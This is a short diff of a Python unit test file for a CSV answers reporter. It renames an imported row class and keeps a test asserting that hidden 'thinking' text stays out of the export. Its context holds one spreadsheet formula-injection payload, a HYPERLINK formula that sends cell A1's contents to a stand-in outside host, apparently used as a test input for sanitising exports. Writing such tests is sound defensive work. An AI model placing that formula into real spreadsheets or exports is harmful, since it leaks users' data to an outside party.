@@ -11,7 +11,7 @@ from tests.unit.reporter.rendering import Rendered
 
 from so8t_reporter.answers import ANSWERS_FILE, HEADER, answers_csv, harmless
 from so8t_reporter.inputs import ReportInputs
-from so8t_shared.results.training import TestRow
+from so8t_shared.results.training import LabeledRow
 
 FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"open")'
 
@@ -89,7 +89,7 @@ def test_no_thinking(inputs: ReportInputs) -> None:
     secret = "nobody should read this"
     rows = [row.model_copy(update={"thinking": {"task": secret}}) for row in inputs.test_rows]
     assert secret.encode() not in answers_csv(replace(inputs, test_rows=rows))
-    assert "thinking" in TestRow.model_fields
+    assert "thinking" in LabeledRow.model_fields
 
 
 def test_row_from_elsewhere(inputs: ReportInputs) -> None:
